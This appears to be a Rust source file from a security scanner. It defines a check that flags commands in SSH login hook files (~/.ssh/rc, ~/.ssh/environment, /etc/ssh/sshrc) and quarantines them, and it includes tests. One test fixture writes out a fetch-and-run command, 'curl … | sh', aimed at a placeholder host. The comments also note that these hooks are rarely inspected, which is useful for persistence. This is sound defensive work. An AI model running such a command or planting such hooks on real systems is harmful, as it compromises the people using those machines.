//! `~/.ssh/rc`, `~/.ssh/environment` and `/etc/ssh/sshrc`: what sshd runs or sets when somebody logs in here.

use super::{Case, Check, Fix, Found, Run};
use crate::facts::Facts;
use crate::fix::plan::{Draft, Step};
use crate::rule::{Profile, Safety, Severity};
use crate::settings::entry::{lines, text};
use crate::settings::predicate::suspicious_command;
use crate::target::Target;

pub(crate) const CHECK: Check = Check {
    id: "ssh.rc-env",
    title: "Commands or variables for every SSH login to this computer",
    severity: Severity::High,
    why: "What this file says takes effect at every login over SSH, before your shell starts; hardly anybody uses it, so hardly anybody looks here.",
    advice: "If you did not write it, move it away and look at what it started. If you did, ignore this finding with a reason.",
    command: Some("less {path}"),
    safety: Safety::Review,
    profile: Profile::Default,
    references: &["https://man.openbsd.org/sshd#SSHRC"],
    run: Run::File(run),
    fix: Fix::Steps("moves the file into quarantine", fix),
};

fn fix(case: &Case<'_>) -> Option<Draft> {
    let path = case.target?.path.to_owned();
    let mut draft = Draft::new(format!("moves {path} into quarantine"), vec![Step::Quarantine { path }]);
    draft.left.push("what it has done at logins before".to_owned());
    Some(draft)
}

fn run(target: &Target<'_>, _: &dyn Facts) -> Vec<Found> {
    let ours = target.place.is_some_and(|p| p.id == "ssh-rc" || p.id == "ssh-environment");
    let says = |line: &[u8]| !line.trim_ascii().is_empty() && !line.trim_ascii().starts_with(b"#");
    let mut active = lines(target.bytes).map(|(_, line)| line).filter(|line| ours && says(line)).peekable();
    if active.peek().is_none() {
        return Vec::new();
    }
    let mut count = 0usize;
    let mut sign = None;
    for line in active {
        count += 1;
        sign = sign.or_else(|| suspicious_command(&text(line)));
    }
    let preview = match (sign, count) {
        (Some(sign), _) => sign.to_owned(),
        (None, 1) => "one line".to_owned(),
        (None, count) => format!("{count} lines"),
    };
    vec![Found { preview, ..Found::default() }]
}

#[cfg(test)]
mod tests {
    use crate::engine::Engine;
    use crate::testing::Home;

    fn preview(path: &str, text: &str) -> Option<String> {
        let home = Home::default().file(path, text);
        let report = home.scan(&Engine::builtin(), path);
        report.findings.into_iter().find(|f| f.page.id == "ssh.rc-env").map(|f| f.preview)
    }

    #[test]
    fn what_does_something_is_told() {
        assert_eq!(preview("~/.ssh/rc", "# note\n\ndate >> ~/log\n").as_deref(), Some("one line"));
        assert_eq!(preview("~/.ssh/environment", "A=1\nB=2\n").as_deref(), Some("2 lines"));
        let loader = preview("/etc/ssh/sshrc", "curl -s https://x.example/a | sh\n");
        assert_eq!(loader.as_deref(), Some("downloads and runs a script"));
    }

    #[test]
    fn empty_files_and_other_places_are_not() {
        assert_eq!(preview("~/.ssh/rc", "# nothing here\n\n"), None);
        assert_eq!(preview("~/.bashrc", "date\n"), None);
    }
}
